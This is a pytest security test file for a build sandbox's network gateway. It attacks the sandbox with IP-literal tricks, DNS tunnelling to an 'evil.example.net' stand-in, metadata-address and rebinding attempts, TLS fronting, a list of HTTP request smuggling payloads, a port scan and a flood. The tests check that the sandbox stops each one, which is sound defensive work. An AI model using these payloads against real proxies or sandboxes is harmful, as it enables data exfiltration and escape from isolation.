"""What a step tries to reach beside what its policy names. The oracle is the world outside: its servers and its resolver.

Each defence that a rule can take out is taken out once, to see that the attack would have worked.
"""

from __future__ import annotations

import socket
import threading
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from sandboxbuild.executor.proxy import proxy_environment
from sandboxbuild.gateway.audit import CONNECT
from sandboxbuild.policy.isolation import Allow, NetworkRules
from tests.support.small_gateway import SmallGateway
from tests.support.step_namespace import StepNamespace, step_namespace
from tests.support.world import Names, World, own_address, world

pytestmark = pytest.mark.root

NAME, OTHER = "files.example.com", "other.example.com"
PORTS = (80, 443, 2222, 8080)
RULES = NetworkRules(run=(Allow(NAME, PORTS),), ranges=("127.0.0.0/8",))
OPEN = NetworkRules(run=(Allow(NAME, PORTS), Allow(OTHER, PORTS)), ranges=("127.0.0.0/8",))
PROXY = dict(proxy_environment())
PYTHON = "/usr/bin/python3"


@pytest.fixture
def outside(tmp_path: Path) -> Iterator[World]:
    with world(tmp_path, NAME, OTHER) as made:
        yield made


class Attack:
    """One step under some rules."""

    def __init__(self, folder: Path, outside: World, rules: NetworkRules = RULES, names: Names | None = None) -> None:
        self.names = names or Names({NAME: [outside.address], OTHER: [outside.address]})
        folder = folder / f"attack-{time.monotonic_ns()}"
        folder.mkdir()
        self.gateway = SmallGateway(folder, rules, self.names)
        self._namespace = step_namespace(str(folder), self.gateway.uplink, PORTS)
        self.step: StepNamespace

    def __enter__(self) -> Attack:
        self.gateway.__enter__()
        self.step = self._namespace.__enter__()
        return self

    def __exit__(self, *_: object) -> None:
        self._namespace.__exit__(None, None, None)
        self.gateway.__exit__()

    def python(self, script: str) -> tuple[int, str, str]:
        return self.step.run(PYTHON, "-c", "import socket\n" + script)

    def reached(self) -> list[str]:
        time.sleep(0.1)
        return [f"{record.name}:{record.port}" for record in self.gateway.audit.records() if record.kind == CONNECT]


def raw_proxy_request(attack: Attack, text: str) -> str:
    """What the proxy answers to raw bytes; | stands for CRLF."""
    request = text.replace("|", "\r\n").encode()
    script = (
        f"s = socket.create_connection(('127.0.0.1', 3128)); s.sendall({request!r}); s.settimeout(3)\n"
        "data = b''\n"
        "try:\n"
        "    while chunk := s.recv(65536): data += chunk\n"
        "except OSError: pass\n"
        "print(data.decode('latin-1'))\n"
    )
    return attack.python(script)[1]


@pytest.mark.parametrize("environment", [{}, PROXY], ids=["direct", "proxy"])
def test_address_literal_reaches_nothing(tmp_path: Path, outside: World, environment: dict[str, str]) -> None:
    packed = int.from_bytes(socket.inet_aton(outside.address))
    with Attack(tmp_path, outside, OPEN._replace(learning=True)) as attack:
        for literal in (
            outside.address,
            str(packed),
            hex(packed),
            f"[::ffff:{outside.address}]",
            "203.0.113.80",
            "[2001:db8::1]",
        ):
            attack.step.run("curl", "-sS", "-m", "5", f"http://{literal}/", environment=environment)
        assert attack.reached() == []
    assert outside.connections == 0


def test_step_has_no_way_out_but_loopback(tmp_path: Path, outside: World) -> None:
    with Attack(tmp_path, outside) as attack:
        assert attack.step.run("ip", "-6", "route", "get", "2001:db8::1")[0] != 0
        assert attack.step.run("ip", "route", "get", "203.0.113.80")[0] != 0
        links = attack.step.run("ip", "-o", "link")[1]
    assert [line.split(":")[1].strip() for line in links.splitlines()] == ["lo"]


def test_datagrams_reach_nobody(tmp_path: Path, outside: World) -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as ear:
        ear.bind((outside.address, 0))
        ear.settimeout(0.3)
        port = ear.getsockname()[1]
        send = (
            "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
            f"for host in ('{NAME}', '{outside.address}', '203.0.113.80'):\n"
            f"    try: s.sendto(b'x', (host, {port}))\n"
            "    except OSError as error: print(error)\n"
        )
        with Attack(tmp_path, outside, OPEN) as attack:
            assert attack.python(send)[0] == 0
        with pytest.raises(TimeoutError):
            ear.recv(9)
        ear.sendto(b"x", ear.getsockname())
        assert ear.recv(9) == b"x"


def test_dns_to_another_server_and_tunnels_in_labels_reach_no_resolver(tmp_path: Path, outside: World) -> None:
    tunnel = (
        "import struct\n"
        "def ask(server, name):\n"
        "    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(1)\n"
        "    q = struct.pack('!HHHHHH', 1, 256, 1, 0, 0, 0)\n"
        "    q += b''.join(bytes((len(l),)) + l.encode() for l in name.split('.')) + bytes((0, 0, 1, 0, 1))\n"
        "    try: s.sendto(q, (server, 53)); r = s.recv(512); print(r[3] & 15, len(r))\n"
        "    except OSError: print('nothing')\n"
        "for n in range(50): ask('198.18.0.1', f'secret{n}.evil.example.net')\n"
        f"ask('{outside.address}', 'files.example.com'); ask('203.0.113.53', 'files.example.com')\n"
    )
    with Attack(tmp_path, outside) as attack:
        out = attack.python(tunnel)[1].splitlines()
        assert {line.split()[0] for line in out[:50]} == {"3"}
        assert out[50:] == ["nothing", "nothing"]
        assert attack.names.asked == []


@pytest.mark.parametrize("address", ["127.0.0.1", "10.0.0.1", "169.254.169.254", "::1", "fd00:ec2::254", "::ffff:127.0.0.1"])
def test_name_that_resolves_inside_is_refused(tmp_path: Path, outside: World, address: str) -> None:
    rules = NetworkRules(run=(Allow(NAME, PORTS),), learning=True)
    with Attack(tmp_path, outside, rules, Names({NAME: [address]})) as attack:
        out = attack.step.run("curl", "-sS", f"http://{NAME}/", environment=PROXY)[1]
        assert "isn't" in out or "not public" in out or "metadata" in out
        assert attack.reached() == []
    assert outside.connections == 0


def test_the_same_name_is_reached_once_the_range_is_open(tmp_path: Path, outside: World) -> None:
    closed = RULES._replace(ranges=())
    with Attack(tmp_path, outside, closed) as attack:
        assert attack.step.run("curl", "-sS", f"http://{NAME}/")[0] != 0
    assert outside.connections == 0
    with Attack(tmp_path, outside) as attack:
        assert attack.step.run("curl", "-sS", f"http://{NAME}/")[0] == 0
    assert outside.connections == 1


def test_metadata_stays_closed_with_every_range_open(tmp_path: Path, outside: World) -> None:
    everything = ("0.0.0.0/0", "::/0")
    rules = NetworkRules(run=(Allow(NAME, PORTS, everything),), ranges=everything, learning=True)
    with Attack(tmp_path, outside, rules, Names({NAME: [outside.address, "169.254.169.254"]})) as attack:
        out = attack.step.run("curl", "-sS", f"http://{NAME}/", environment=PROXY)[1]
    assert "metadata" in out
    assert outside.connections == 0


def test_name_that_changes_between_check_and_use_gains_nothing(tmp_path: Path, outside: World) -> None:
    victim = own_address()
    hits = 0
    with socket.create_server((victim, 80)) as ear:
        ear.settimeout(0.2)

        class Rebinding(Names):
            """Public-looking first, the victim at each later question."""

            def __call__(self, name: str) -> list[str]:
                first = not self.asked
                super().__call__(name)
                return [outside.address] if first else [victim]

        rules = RULES._replace(ranges=(f"{outside.address}/32",))
        with Attack(tmp_path, outside, rules, Rebinding({})) as attack:
            assert attack.step.run("curl", "-sS", f"http://{NAME}/x")[1] == "hello from /x"
            assert attack.names.asked == [NAME]
            assert attack.step.run("curl", "-sS", f"http://{NAME}/x")[0] != 0
        with pytest.raises(TimeoutError):
            ear.accept()
            hits += 1
    assert hits == 0


@pytest.mark.parametrize("environment", [{}, PROXY], ids=["direct", "proxy"])
def test_other_tls_name_on_an_allowed_connection_is_cut(tmp_path: Path, outside: World, environment: dict[str, str]) -> None:
    fronting = ("curl", "-sS", "-k", "-m", "5", "--connect-to", f"{OTHER}:443:{NAME}:443", f"https://{OTHER}/stolen")
    with Attack(tmp_path, outside) as attack:
        assert attack.step.run(*fronting, environment=environment)[0] != 0
    assert outside.requests == []
    unread = RULES._replace(run=(Allow(NAME, PORTS, inspect=False),))
    with Attack(tmp_path, outside, unread) as attack:
        assert attack.step.run(*fronting, environment=environment)[0] == 0
    assert len(outside.requests) == 1


@pytest.mark.parametrize("port", [80, 8080])
def test_other_host_on_an_allowed_connection_is_cut(tmp_path: Path, outside: World, port: int) -> None:
    two = f"GET /fine HTTP/1.1|Host: {NAME}:{port}||GET /stolen HTTP/1.1|Host: {OTHER}||".replace("|", "\r\n").encode()
    script = (
        f"s = socket.create_connection(('{NAME}', {port})); s.sendall({two!r}); s.settimeout(3)\n"
        "try: s.recv(999); s.recv(999)\n"
        "except OSError: pass\n"
    )
    with Attack(tmp_path, outside) as attack:
        attack.step.run("curl", "-sS", "-H", f"Host: {OTHER}", f"http://{NAME}:{port}/stolen")
        attack.python(script)
    assert not any("stolen" in line for _, line, _ in outside.requests)
    unread = RULES._replace(run=(Allow(NAME, PORTS, inspect=False),))
    with Attack(tmp_path, outside, unread) as attack:
        attack.python(script)
    assert any("stolen" in line for _, line, _ in outside.requests)


def test_redirect_to_a_refused_host_ends_there(tmp_path: Path, outside: World) -> None:
    follow = ("curl", "-sS", "-L", f"http://{NAME}/redirect/{OTHER}:8080/stolen")
    with Attack(tmp_path, outside) as attack:
        assert attack.step.run(*follow)[0] == 6
        attack.step.run(*follow, environment=PROXY)
    assert not any(line.startswith("GET /stolen") for _, line, _ in outside.requests)
    with Attack(tmp_path, outside, OPEN) as attack:
        assert attack.step.run(*follow)[0] == 0
    assert any(line.startswith("GET /stolen") for _, line, _ in outside.requests)


STOLEN = "GET /stolen HTTP/1.1|Host: {o}||"
SMUGGLED = [
    "POST http://{n}/a HTTP/1.1|Host: {n}|Content-Length: 5|Transfer-Encoding: chunked||0||" + STOLEN,
    "POST http://{n}/a HTTP/1.1|Host: {n}|Content-Length: 0|Content-Length: 50||" + STOLEN,
    "POST http://{n}/a HTTP/1.1|Host: {n}|Transfer-Encoding: xchunked||" + STOLEN,
    "POST http://{n}/a HTTP/1.1|Host: {n}|Transfer-Encoding : chunked||0||" + STOLEN,
    "GET http://{n}/a HTTP/1.1|Host: {n}||GET http://{o}/stolen HTTP/1.1|Host: {o}||",
    "GET http://{n}/a HTTP/1.1\nHost: {n}\n\n" + STOLEN,
    "GET http://{o}/stolen HTTP/1.1|Host: {n}||",
    "GET http://{n}/a HTTP/1.1|Host: {o}||",
    "GET http://{n}@{o}/stolen HTTP/1.1|Host: {o}||",
    "GET http://{n}:80@{o}/stolen HTTP/1.1|Host: {n}||",
    "GET http://{n}/a|X: GET /stolen HTTP/1.1|Host: {n}||",
    STOLEN,
    "CONNECT {o}:80 HTTP/1.1|Host: {n}:80||",
    "CONNECT {n}:80 HTTP/1.1|Host: {n}:80||" + STOLEN,
    "CONNECT {n}:80 HTTP/1.1|Host: {n}:80|Sandboxbuild-Step: 2||GET http://{o}/stolen HTTP/1.1|Host: {o}||",
    "PRI * HTTP/2.0||SM||",
]


@pytest.mark.parametrize("text", SMUGGLED)
def test_proxy_carries_no_second_request(tmp_path: Path, outside: World, text: str) -> None:
    with Attack(tmp_path, outside) as attack:
        raw_proxy_request(attack, text.format(n=NAME, o=OTHER))
        assert set(attack.reached()) <= {f"{NAME}:80"}
    assert not any("stolen" in line or host == OTHER for _, line, host in outside.requests)


def test_proxy_works_for_the_honest_request(tmp_path: Path, outside: World) -> None:
    with Attack(tmp_path, outside) as attack:
        assert "hello from /a" in raw_proxy_request(attack, f"GET http://{NAME}/a HTTP/1.1|Host: {NAME}||")


def test_stand_in_that_nobody_asked_for_stands_for_nothing(tmp_path: Path, outside: World) -> None:
    scan = (
        "open_ = 0\n"
        "for n in range(2, 60):\n"
        "    s = socket.socket(); s.settimeout(1)\n"
        "    try:\n"
        "        s.connect((f'198.18.0.{n}', 2222)); open_ += bool(s.recv(9))\n"
        "    except OSError: pass\n"
        "print(open_)\n"
    )
    with Attack(tmp_path, outside) as attack:
        assert attack.python(scan)[1] == "0\n"
        assert attack.reached() == []


def test_one_step_can_not_use_the_names_of_another(tmp_path: Path, outside: World) -> None:
    with Attack(tmp_path, outside, OPEN) as attack:
        folder = tmp_path / "second"
        folder.mkdir()
        with step_namespace(str(folder), attack.gateway.uplink, PORTS, step="2") as second:
            assert attack.step.run("curl", "-sS", f"http://{NAME}/")[0] == 0
            script = "import socket; s = socket.create_connection(('198.18.0.2', 2222)); s.settimeout(2); print(s.recv(9))"
            assert "SSH" not in second.run(PYTHON, "-c", script)[1]


def test_abstract_sockets_of_the_host_are_out_of_reach(tmp_path: Path, outside: World) -> None:
    name = f"sandboxbuild-test-{time.monotonic_ns()}"
    with socket.socket(socket.AF_UNIX) as ear:
        ear.bind("\0" + name)
        ear.listen()
        with socket.socket(socket.AF_UNIX) as control:
            control.connect("\0" + name)
        script = f"s = socket.socket(socket.AF_UNIX); print(s.connect_ex(chr(0) + '{name}'))"
        with Attack(tmp_path, outside) as attack:
            assert attack.python(script)[1] == "111\n"


def test_flood_of_names_and_connections_leaves_the_gateway_working(tmp_path: Path, outside: World) -> None:
    flood = (
        "import os, threading\n"
        "def names():\n"
        "    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
        "    for _ in range(500): s.sendto(os.urandom(40), ('198.18.0.1', 53))\n"
        "def proxies():\n"
        "    held = []\n"
        "    for _ in range(100):\n"
        "        try: s = socket.create_connection(('127.0.0.1', 3128), 2); s.send(os.urandom(20)); held.append(s)\n"
        "        except OSError: pass\n"
        "all = [threading.Thread(target=t) for t in (names, proxies, proxies)]\n"
        "[t.start() for t in all]; [t.join() for t in all]\n"
    )
    with Attack(tmp_path, outside) as attack:
        assert attack.python(flood)[0] == 0
        assert attack.step.run("curl", "-sS", "-m", "10", f"http://{NAME}/after")[1] == "hello from /after"
        assert threading.active_count() < 200
